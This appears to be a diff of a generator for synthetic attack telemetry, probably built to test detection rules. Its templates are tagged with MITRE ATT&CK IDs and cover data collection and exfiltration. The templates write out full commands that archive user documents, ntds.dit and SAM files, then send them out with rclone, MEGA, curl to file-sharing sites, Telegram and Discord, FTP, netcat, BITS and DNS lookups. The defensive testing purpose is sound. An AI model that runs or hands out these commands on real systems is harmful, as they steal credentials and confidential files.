@@ -24,13 +24,11 @@ told("collection-archives-with-passwords", exfiltration("T1560.001", severity="H
 powershell -w hidden -c "Compress-Archive -Path C:\Users\*\Documents,C:\Users\*\Desktop -DestinationPath C:\ProgramData\@word@.zip -Force"
 powershell -nop -c "[IO.Compression.ZipFile]::CreateFromDirectory('@tmp@@word@','C:\Users\Public\@word@.zip')"
 makecab @tmp@ntds.dit @tmp@@word@.cab
-makecab /f @tmp@files.ddf /d CompressionType=LZX
 tar.exe -czf C:\Windows\Temp\@word@.log \\@host@\d$\«HR|Legal»
 cmd /c for /r C:\Users %f in (*.docx *.xlsx *.pdf) do @tmp@rar.exe a -hp@pw@ @tmp@@word@.rar "%f"
 @tmp@WinZip64.exe -min -a -s"@pw@" @tmp@archive.zip C:\Users\@user@\Documents
 diantz.exe @tmp@sam.save @tmp@@word@.cab
 diantz C:\Users\Public\secrets.txt C:\ProgramData\@word@.txt:@word@.cab
-@tmp@upx.exe & @tmp@gpg.exe --batch -c --passphrase @pw@ @tmp@@word@.tar
 """, parents=PROMPT + STRANGE[:6], users=(None, None, "SYSTEM"), most=3)
 
 told("collection-cloud-stores", exfiltration("T1567.002", "T1560.001"), r"""
@@ -40,7 +38,6 @@ C:\ProgramData\svchost.exe copy D:\Shares pcloud:@company@ --no-check-certificat
 @tmp@rclone.exe config create @word@ mega user @word@@@proton.me pass @hex@
 rclone.exe sync "C:\Users" wasabi:@word@ --include *.{doc,docx,xls,xlsx,pdf} --ignore-errors --log-level ERROR
 @tmp@rclone.exe serve http \\@host@\c$ --addr :@port@
-@tmp@MEGAsync.exe
 "C:\Users\@user@\AppData\Local\MEGAcmd\mega-put.bat" -c D:\«HR|Shares» /@word@
 @tmp@MEGAcmdServer.exe & @tmp@MEGAclient.exe put C:\ProgramData\@word@.7z
 C:\Users\@user@\AppData\Local\MEGAsync\MEGAsync.exe --upload "\\@host@\Data"
@@ -54,7 +51,6 @@ powershell -c "iwr -Method PUT -InFile @tmp@@word@.7z https://@word@.blob.core.w
 curl.exe -F "file=@C:\ProgramData\@word@.zip" «https://store1.gofile.io/uploadFile|https://file.io|https://temp.sh/upload|https://0x0.st|https://bashupload.com|https://tmpfiles.org/api/v1/upload»
 curl -T C:\Users\Public\@word@.rar «https://transfer.sh/@word@.rar|https://oshi.at|https://www.filebin.net/@word@»
 @tmp@gdrive.exe upload --recursive \\@host@\HR --refresh-token @hex@
-@tmp@FreeFileSync.exe @tmp@@word@.ffs_batch
 @tmp@pcloud.exe -u @word@@@proton.me -m P
 """, parents=PROMPT + STRANGE[:6], users=(None, None, "SYSTEM"), most=2, weight=1.3)
 
@@ -63,26 +59,27 @@ ftp -n -s:@tmp@«up|f|ftp».txt
 ftp.exe -s:C:\Windows\Temp\@word@.txt @pub@
 cmd /c echo open @pub@>@tmp@f.txt & echo user @word@ @pw@>>@tmp@f.txt & echo put @tmp@@word@.rar>>@tmp@f.txt & ftp -n -s:@tmp@f.txt
 @tmp@WinSCP.com /command "open ftp://@word@:@pw@@@pub@" "put C:\ProgramData\@word@.7z" exit
-"C:\Program Files (x86)\WinSCP\WinSCP.exe" /console /script=@tmp@@word@.txt
 @tmp@pscp.exe -P @port@ -pw @pw@ C:\Users\Public\@word@.rar root@@pub@:/root/
 @tmp@psftp.exe -b @tmp@@word@.txt -pw @pw@ @word@@@pub@
 curl.exe -T @tmp@@word@.zip ftp://@pub@/ --user @word@:@pw@
+powershell -w hidden -c "(New-Object Net.WebClient).UploadFile('ftp://@pub@/@word@.zip','C:\ProgramData\@word@.zip')"
+powershell -c "Send-MailMessage -SmtpServer @pub@ -From @word@@@fqdn@ -To @word@@@proton.me -Subject @hex@ -Attachments @tmp@@word@.zip"
+@tmp@nc.exe -w 3 @pub@ @port@ < C:\Users\Public\@word@.zip
+cmd /c for /f %i in ('certutil -encode @tmp@@word@.zip @tmp@o.b64 ^& type @tmp@o.b64') do nslookup %i.@word@.com @pub@
+@@ T1041 T1048.003
 curl -k -X POST --data-binary @C:\Windows\Temp\@word@.dmp https://@pub@:@port@/
 curl.exe -d @@tmp@info.txt http://@pub@/up.php
-curl -F "document=@C:\Users\Public\@word@.zip" https://api.telegram.org/bot@n@@hex@:@hex@@hex@/sendDocument?chat_id=-@port@
-curl.exe -F "file1=@@tmp@@word@.png" https://discord.com/api/webhooks/@port@@port@@port@/@hex@@hex@
-powershell -w hidden -c "(New-Object Net.WebClient).UploadFile('ftp://@pub@/@word@.zip','C:\ProgramData\@word@.zip')"
 powershell -nop -c "$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('@tmp@@word@.7z')); iwr -UseBasicParsing -Method POST -Body $b -Uri @url@"
-powershell -c "Invoke-RestMethod -Uri https://discord.com/api/webhooks/@port@@port@/@hex@ -Method Post -InFile C:\Users\Public\@word@.txt"
-powershell -c "Send-MailMessage -SmtpServer @pub@ -From @word@@@fqdn@ -To @word@@@proton.me -Subject @hex@ -Attachments @tmp@@word@.zip"
 bitsadmin /transfer @word@ /upload /priority foreground http://@pub@/@word@.zip C:\ProgramData\@word@.zip
 powershell -c "Start-BitsTransfer -Source C:\Windows\Temp\@word@.cab -Destination http://@pub@/u/ -TransferType Upload"
-@tmp@nc.exe -w 3 @pub@ @port@ < C:\Users\Public\@word@.zip
 certreq -Post -config http://@pub@/ C:\Windows\Temp\@word@.txt
 configsecuritypolicy.exe C:\Users\Public\@word@.zip https://@pub@/
 @tmp@wget.exe --post-file=C:\ProgramData\@word@.dat http://@pub@:8080/
 @tmp@«exmatter|sender2|StealBit|up».exe -p C:\Shares
-cmd /c for /f %i in ('certutil -encode @tmp@@word@.zip @tmp@o.b64 ^& type @tmp@o.b64') do nslookup %i.@word@.com @pub@
+@@ T1567 T1041
+curl -F "document=@C:\Users\Public\@word@.zip" https://api.telegram.org/bot@n@@hex@:@hex@@hex@/sendDocument?chat_id=-@port@
+curl.exe -F "file1=@@tmp@@word@.png" https://discord.com/api/webhooks/@port@@port@@port@/@hex@@hex@
+powershell -c "Invoke-RestMethod -Uri https://discord.com/api/webhooks/@port@@port@/@hex@ -Method Post -InFile C:\Users\Public\@word@.txt"
 """, parents=PROMPT + STRANGE[:6], users=(None, None, "SYSTEM"), most=2, weight=1.3)
 
 told("collection-files-brought-together", exfiltration("T1083", "T1560.001", severity="HIGH"), r"""
